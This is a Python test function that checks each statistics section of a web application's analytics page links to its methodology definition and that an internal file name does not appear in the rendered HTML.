def test_every_section_of_the_analytics_page_links_to_its_definition(demo: Demo) -> None:
    start, end = LAST_YEAR
    sections = 0
    linked: list[str] = []
    for html in tab_pages(demo.client("analyst"), f"from={start}&to={end}").values():
        count = html.count('class="stats-section"')
        links = re.findall(r'class="methodology-link" href="/public/statistics/methodology#(\w+)"', html)
        assert count >= 1 and len(links) == count
        assert "DOMAIN.md" not in html
        sections += count
        linked += links
    assert sections == len(SECTIONS) and set(linked) == set(MEASURE_NAMES)
    assert "/public/statistics/methodology" in demo.client().get("/public/statistics").get_data(as_text=True)
